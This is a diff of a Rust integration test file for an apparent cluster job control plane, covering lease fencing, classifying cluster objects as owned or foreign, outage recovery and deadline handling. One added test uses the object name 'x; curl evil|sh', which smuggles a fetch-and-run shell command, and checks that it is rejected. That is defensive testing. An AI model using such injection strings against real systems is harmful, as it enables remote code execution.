@@ -11,7 +11,7 @@ use proto::{
         report_request::What,
     },
 };
-use tonic::Code;
+use tonic::{Code, Status};
 
 use crate::harness::{FIRST_PROCESS, Played, REPOSITORY, SECOND_PROCESS, World, filtered};
 
@@ -45,9 +45,13 @@ fn ended(cause: Cause, message: &str) -> What {
     })
 }
 
-async fn judged(played: &Played, found: ClusterObject) -> Verdict {
-    let request = JudgeRequest { found: Some(found) };
-    played.worker.clone().judge(request).await.expect("an answer").into_inner().verdict()
+async fn try_judge(played: &Played, process: &str, found: ClusterObject) -> Result<Verdict, Status> {
+    let request = JudgeRequest { found: Some(found), process_id: process.to_owned() };
+    Ok(played.worker.clone().judge(request).await?.into_inner().verdict())
+}
+
+async fn judged(played: &Played, process: &str, found: ClusterObject) -> Verdict {
+    try_judge(played, process, found).await.expect("an answer")
 }
 
 async fn asked(world: &World, title: &str) -> u64 {
@@ -76,7 +80,7 @@ async fn an_attempt_in_a_cluster_outlives_the_process_of_its_worker() {
     // Nothing is made before it was planned, and nothing else than what was planned.
     let refused = async |what| {
         let status = played.try_report(&lease, what).await.expect_err("refused");
-        assert_eq!(status.code(), Code::FailedPrecondition, "{status:?}");
+        assert_eq!(status.code(), Code::InvalidArgument, "{status:?}");
     };
     refused(created(&lease, "u-1")).await;
     refused(What::Planned(ClusterObject { name: "another".to_owned(), ..object(&lease, 'a', "") })).await;
@@ -84,7 +88,7 @@ async fn an_attempt_in_a_cluster_outlives_the_process_of_its_worker() {
     assert!(played.report(&lease, planned(&lease, 'a')).await, "nothing was made yet");
     assert!(played.report(&lease, planned(&lease, 'a')).await, "again");
     assert_eq!(
-        judged(&played, object(&lease, 'a', "u-0")).await,
+        judged(&played, FIRST_PROCESS, object(&lease, 'a', "u-0")).await,
         Verdict::Recreate,
         "made and never reported"
     );
@@ -114,10 +118,16 @@ async fn an_attempt_in_a_cluster_outlives_the_process_of_its_worker() {
     let second = adopted.lease.clone().expect("a lease");
     assert_eq!((&second.attempt_id, second.fence), (&lease.attempt_id, lease.fence + 1));
 
-    let stop = played.beat(FIRST_PROCESS, &lease).await;
-    assert!(stop[0].reason.contains("another process"), "{stop:?}");
-    assert!(!played.report(&lease, ended(Cause::Unspecified, "it is back")).await, "too late");
+    // Nothing that the earlier process hears may read as if the attempt were over: it would remove
+    // what the present one has just adopted.
+    let back = ended(Cause::Unspecified, "it is back");
     let refused = [
+        played.try_beat(FIRST_PROCESS, &lease).await.expect_err("not the present one"),
+        // It was found to be the present one a moment ago.
+        played.try_beat(SECOND_PROCESS, &lease).await.expect_err("an old fence"),
+        played.try_report(&lease, waits("Its node is away")).await.expect_err("an old fence"),
+        played.try_report(&lease, back).await.expect_err("an old fence"),
+        try_judge(&played, FIRST_PROCESS, object(&lease, 'a', "u-1")).await.expect_err("not the present one"),
         played.lease(FIRST_PROCESS).await.expect_err("not the present one"),
         played.adopt(FIRST_PROCESS).await.expect_err("not the present one"),
     ];
@@ -126,24 +136,31 @@ async fn an_attempt_in_a_cluster_outlives_the_process_of_its_worker() {
 
     let started = AttemptStarted { isolation: "pod on node-1".to_owned(), unsandboxed: false };
     assert!(played.report(&second, What::Started(started)).await);
+    world.until("it waits no more", |_| (!said(world, issue, no_room)).then_some(())).await;
     assert!(played.report(&second, waits("Its image is fetched")).await, "late, and it changes nothing");
     played.runner(&second).hello(HelloRequest::default()).await.expect("an assignment");
     let detail = played.until_state(&second, "running").await;
     assert_eq!((detail.attempts.len(), detail.attempts[0].waits_for.as_str()), (1, ""), "{detail:#?}");
 
     // What is in the cluster is held against what is stored.
-    assert_eq!(judged(&played, object(&second, 'a', "u-1")).await, Verdict::Ours);
+    assert_eq!(judged(&played, SECOND_PROCESS, object(&second, 'a', "u-1")).await, Verdict::Ours);
     let forged = ClusterObject { name: "attempt-forged".to_owned(), ..object(&second, 'a', "u-9") };
     for foreign in [object(&second, 'b', "u-1"), object(&second, 'a', "u-2"), forged.clone(), forged] {
-        assert_eq!(judged(&played, foreign).await, Verdict::Foreign);
+        assert_eq!(judged(&played, SECOND_PROCESS, foreign).await, Verdict::Foreign);
     }
+    // People are told these names in commands, and a namespace of nobody's is in no record.
+    let pasted = ClusterObject { name: "x; curl evil|sh".to_owned(), ..object(&second, 'a', "u-9") };
+    let refused = try_judge(&played, SECOND_PROCESS, pasted).await.expect_err("no such name");
+    assert_eq!(refused.code(), Code::InvalidArgument, "{refused:?}");
+    let elsewhere = ClusterObject { namespace: "callboard-other".to_owned(), ..object(&second, 'a', "u-10") };
+    assert_eq!(judged(&played, SECOND_PROCESS, elsewhere).await, Verdict::Foreign);
     let message = "The agent used more memory than the 4096 MiB it may have";
     assert!(played.report(&second, ended(Cause::OutOfMemory, message)).await);
     world.cancel(&played.busy).await.expect("cancelled");
     let run = world.finished(&second.run_id).await.run.expect("a run");
     assert_eq!((run.state.as_str(), run.class.as_str()), ("failed", "agent"));
     assert!(run.message.contains("4096 MiB"), "{}", run.message);
-    assert_eq!(judged(&played, object(&second, 'a', "u-1")).await, Verdict::Over);
+    assert_eq!(judged(&played, SECOND_PROCESS, object(&second, 'a', "u-1")).await, Verdict::Over);
 
     let request = EventsRequest { after: 0, project: "demo".to_owned(), follow: false };
     let mut events = world.admin().events(request).await.expect("events").into_inner();
@@ -158,6 +175,46 @@ async fn an_attempt_in_a_cluster_outlives_the_process_of_its_worker() {
     let found = findings.iter().find(|finding| finding.probe == "agent runs").expect("a finding");
     assert!(found.found.starts_with("3 of somebody else"), "{found:#?}");
     played.world.end().await;
+}
+
+/// Nobody could be heard while the control plane was away: what went on well in a cluster goes on.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_control_plane_that_was_away_loses_no_attempt_in_a_cluster() {
+    let mut played = Played::start().await;
+    played.adopt(FIRST_PROCESS).await.expect("nothing to adopt");
+    asked(&played.world, "Say hello").await;
+    let lease = played.lease(FIRST_PROCESS).await.expect("leased");
+    assert!(played.report(&lease, planned(&lease, 'a')).await);
+    played.world.down().await;
+    played.silence(&lease).await;
+    played.world.up().await;
+    // The watchdog has looked once it has ended what ended with the platform.
+    played.world.clock.advance(TimeDelta::seconds(10));
+    played.world.until_run(&played.busy, "a second attempt", |detail| detail.attempts.len() == 2).await;
+    let detail = played.world.get(&lease.run_id).await;
+    assert_eq!(detail.attempts[0].state, "leased", "{detail:#?}");
+    assert!(played.beat(FIRST_PROCESS, &lease).await.is_empty());
+    played.world.cancel(&lease.run_id).await.expect("cancelled");
+    played.end().await;
+}
+
+/// A project in whose namespace somebody makes object after object is not told of each.
+#[tokio::test(flavor = "multi_thread")]
+async fn what_is_not_ours_is_noted_a_hundred_times_a_day() {
+    let played = Played::start().await;
+    let adopted = played.adopt(FIRST_PROCESS).await.expect("nothing to adopt");
+    for number in 0..102 {
+        let forged = ClusterObject {
+            namespace: adopted.namespaces[0].clone(),
+            name: format!("forged-{number}"),
+            uid: format!("u-{number}"),
+            ..ClusterObject::default()
+        };
+        assert_eq!(judged(&played, FIRST_PROCESS, forged).await, Verdict::Foreign);
+    }
+    let noted = sqlx::query_scalar::<_, i64>("select count(*) from foreign_objects");
+    assert_eq!(noted.fetch_one(&mut played.world.db().await).await.expect("a count"), 100);
+    played.end().await;
 }
 
 /// What the cluster did is tried again, or ends the run, with the worker's sentence. What was never
@@ -194,5 +251,13 @@ async fn what_a_cluster_did_decides_what_follows() {
         ("failed", "infrastructure", image)
     );
     assert_eq!(detail.attempts.len(), 3);
+
+    // Whoever may change Jobs does not decide what a run's time is.
+    asked(world, "Say goodbye").await;
+    let fourth = played.lease(SECOND_PROCESS).await.expect("leased");
+    assert!(played.report(&fourth, ended(Cause::Deadline, "Its Job took too long")).await);
+    let run = played.until_state(&fourth, "lost").await.run.expect("a run");
+    assert!(run.message.contains("not the platform's"), "{}", run.message);
+    world.cancel(&fourth.run_id).await.expect("cancelled");
     played.world.end().await;
 }
